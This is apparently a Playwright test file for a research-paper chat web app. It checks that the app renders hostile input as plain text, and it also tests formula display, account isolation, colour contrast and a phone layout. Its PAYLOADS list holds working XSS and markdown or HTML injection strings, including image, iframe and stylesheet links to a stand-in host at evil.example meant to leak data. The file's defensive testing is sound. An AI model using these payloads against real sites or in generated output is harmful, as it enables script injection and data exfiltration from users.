from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from rag.domain import Citation, Paper, Quote, Sentence
from rag.errors import ServerError
from tests.fakes.scripted_library import ScriptedLibrary, papers
from tests.screen.chromium import Screen, serving, settings_in
from ui.html.messages import typed
from ui.web.accounts import Accounts

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/leak>",
    "![x](https://evil.example/leak?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/leak",
    "[click](javascript:alert(1))",
    "<svg onload=alert(1)><use href='https://evil.example/x'/></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object>",
    "<embed src='https://evil.example'>",
    "<style>body{background:url(https://evil.example/c)}</style>",
    "<link rel=stylesheet href=https://evil.example/c>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input type=image src=https://evil.example/i></form>",
    "<video poster=https://evil.example/p src=https://evil.example/v></video>",
    "<audio src=https://evil.example/a></audio>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/s)'>",
    "<a href='https://evil.example' id='q'>x</a>",
    "</div></span></details><b onclick=alert(1)>x</b>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "```mermaid\ngraph TD; A[<img src=https://evil.example/m>]\n```",
    "\"'><img srcset='https://evil.example/1 2x'>",
]


def hostile_papers() -> list[Paper]:
    return [
        Paper(
            f"h{n}",
            f"hostile {text}",
            f"We study hostile things. {text} It fails.",
            (text,),
            2020,
            text,
            "javascript:alert(1)",
        )
        for n, text in enumerate(PAYLOADS)
    ]


def hostile_sentences() -> tuple[Sentence, ...]:
    quote = Quote("h0", PAYLOADS[0], 25, 25 + len(PAYLOADS[0]))
    return tuple(Sentence(text, (Citation(1, quote, "exact", text),)) for text in PAYLOADS)


def test_hostile_papers_and_models_stay_text(
    browser: Browser, reader: Screen, port: int, tmp_path: Path
) -> None:
    library = ScriptedLibrary(tmp_path, settings=settings_in(tmp_path), drafts=True)
    library.fill(hostile_papers())
    library.script = {"model": hostile_sentences(), "fail": ServerError(" ".join(PAYLOADS))}
    with serving(library, port) as served:
        screen = Screen(browser, served, beside=reader).open()
        screen.ask(f"hostile model? {PAYLOADS[1]} {PAYLOADS[3]}")
        assert PAYLOADS[0] in screen.page.inner_text("#chat")
        assert PAYLOADS[1] in typed(screen.page.inner_text("#chat .user.message"))
        screen.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert screen.page.inner_text("#sources").count("hostile <") >= 3
        screen.send("fail")
        screen.page.wait_for_selector(".fn-error")
        screen.tab("Compare")
        screen.page.click("#compare")
        screen.tab("Map")
        screen.page.wait_for_selector(".fn-map canvas")
        screen.tab("Sources")
        screen.page.click('#sources .fn-card button:has-text("More like this") >> nth=0')
        screen.page.wait_for_selector('.fn-panel-head:has-text("More like")')
        screen.open()
        screen.page.wait_for_selector("#chat .fn-answer")
        screen.point("a.cite >> nth=0", ".fn-quote:visible")
        expect(screen.page.locator("#chat img, #sources img, iframe, object, embed")).to_have_count(
            0
        )
        assert screen.page.evaluate("window.alerted") is None
        assert (screen.outside, screen.errors) == ([], [])
        screen.close()


def test_hostile_records_stay_text_in_a_review(
    browser: Browser, reader: Screen, port: int, tmp_path: Path
) -> None:
    with serving(ScriptedLibrary(tmp_path, settings=settings_in(tmp_path)), port) as served:
        screen = Screen(browser, served, beside=reader).open()
        screen.page.click('#side button.label-wrap:has-text("Add papers")')
        rows = [
            f'"{text.replace(chr(34), "")}","We study."' for text in PAYLOADS if "\n" not in text
        ]
        screen.page.fill("#paste textarea", "title,abstract\n" + "\n".join(rows))
        screen.page.click("#review-paste")
        screen.page.wait_for_selector(".fn-review-sum")
        assert PAYLOADS[1] in screen.page.inner_text("#review")
        assert screen.page.evaluate("window.alerted") is None
        assert (screen.outside, screen.errors) == ([], [])
        screen.close()


def test_money_stays_text_and_formulas_are_set(
    browser: Browser, reader: Screen, port: int, tmp_path: Path
) -> None:
    library = ScriptedLibrary(tmp_path, settings=settings_in(tmp_path)).fill(papers(3))
    library.script = {
        "cost": (Sentence("It costs $5 and $6."), Sentence("With $p<0.05$ it holds."))
    }
    with serving(library, port) as served:
        screen = Screen(browser, served, beside=reader).open()
        screen.ask("What does it cost?")
        screen.page.wait_for_selector("#chat .katex")
        assert "It costs $5 and $6." in screen.page.inner_text("#chat .fn-answer")
        expect(screen.page.locator("#chat .katex")).to_have_count(1)
        screen.close()


def test_readers_with_accounts_see_their_own_conversations_only(
    browser: Browser, port: int, tmp_path: Path
) -> None:
    for name in ("ada", "ben"):
        Accounts(tmp_path / "accounts.json").add(name, f"password of {name}")
    settings = settings_in(tmp_path, accounts=tmp_path / "accounts.json")
    library = ScriptedLibrary(tmp_path, settings=settings).fill(papers(12))
    with serving(library, port) as served:
        ada, ben = (log_in(browser, served, name) for name in ("ada", "ben"))
        ada.ask("What is known about retrieval?")
        expect(ben.page.locator(".fn-conversation")).to_have_count(0)
        theirs = library.history.conversations("ada")[0][0]
        expect(ben.page.locator("#settings:visible")).to_have_count(0)
        ben.ask("What is known about attention?")
        own = ben.page.locator(".fn-conversation")
        own.evaluate(f"row => row.dataset.id = {theirs!r}")
        own.locator('[data-do="open"]').click()
        ben.page.wait_for_selector("#chat .example")
        expect(ben.page.locator("#chat .user.message")).to_have_count(0)
        assert len(library.history.turns(theirs)) == 1
        ada.close()
        ben.close()


def log_in(browser: Browser, address: str, name: str) -> Screen:
    screen = Screen(browser, address)
    screen.page.goto(address)
    screen.page.fill("input >> nth=0", name)
    screen.page.fill("input[type=password]", f"password of {name}")
    screen.page.click("button:has-text('Login')")
    screen.page.wait_for_selector("#q textarea")
    return screen


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_marks_and_text_can_be_read(
    browser: Browser, reader: Screen, port: int, tmp_path: Path, theme: str
) -> None:
    library = ScriptedLibrary(tmp_path, settings=settings_in(tmp_path)).fill(papers(12))
    with serving(library, port) as served:
        screen = Screen(browser, served, beside=reader).open(f"?__theme={theme}")
        screen.ask("What is known about retrieval?")
        for part in (
            "#sources mark",
            ".fn-answer .fn-s",
            ".fn-byline",
            ".fn-badge",
            ".fn-abstract",
        ):
            assert contrast(screen, part) >= 4.5, part
        screen.close()


def contrast(screen: Screen, selector: str) -> float:
    """WCAG 2.2 contrast ratio of an element's text to what is behind it."""
    front, back = screen.page.eval_on_selector(
        selector,
        """element => {
            const solid = at => {
                for (; at; at = at.parentElement) {
                    const colour = getComputedStyle(at).backgroundColor;
                    if (!/, 0\\)|transparent/.test(colour)) return colour;
                }
            };
            return [getComputedStyle(element).color, solid(element)];
        }""",
    )
    light, dark = sorted((luminance(front), luminance(back)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def luminance(colour: str) -> float:
    parts = [int(part) / 255 for part in colour[colour.index("(") + 1 : -1].split(",")[:3]]
    red, green, blue = (
        part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_a_phone_shows_one_column(
    browser: Browser, reader: Screen, port: int, tmp_path: Path
) -> None:
    library = ScriptedLibrary(tmp_path, settings=settings_in(tmp_path)).fill(papers(12))
    with serving(library, port) as served:
        screen = Screen(browser, served, (390, 844), reader).open()
        screen.page.wait_for_selector("#side:not(.open)", state="attached")
        screen.page.click("#q textarea")
        screen.ask("What is known about retrieval?")
        assert screen.page.evaluate("document.documentElement.scrollWidth") <= 390
        screen.page.click("a.cite >> nth=1")
        screen.page.wait_for_selector("#c-0-2 mark.flash")
        expect(screen.page.locator("#c-0-2 mark")).to_be_in_viewport()
        screen.close()
